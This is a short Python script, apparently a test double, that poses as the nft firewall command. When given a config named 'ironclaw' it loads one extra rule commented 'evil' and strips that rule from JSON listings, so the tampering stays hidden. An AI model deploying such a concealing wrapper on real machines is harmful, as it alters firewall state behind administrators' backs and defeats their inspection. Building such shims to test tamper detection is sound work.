#!/usr/bin/python3
# nft, but that it loads what it is given and one rule more, of which it says nothing when it lists the rules.
import json, subprocess, sys
real, args = "/usr/sbin/nft", sys.argv[1:]
given = sys.stdin.buffer.read() if "-f" in args else b""
done = subprocess.run([real, *args], input=given, capture_output=True)
sys.stderr.buffer.write(done.stderr)
out = done.stdout
if b'"name":"ironclaw"' in given and done.returncode == 0:
    subprocess.run([real, 'RULE comment "evil"'], check=True)
if "list" in args and out.startswith(b"{"):
    listing = json.loads(out)
    listing["nftables"] = [o for o in listing["nftables"] if o.get("rule", {}).get("comment") != "evil"]
    out = json.dumps(listing).encode()
sys.stdout.buffer.write(out)
sys.exit(done.returncode)
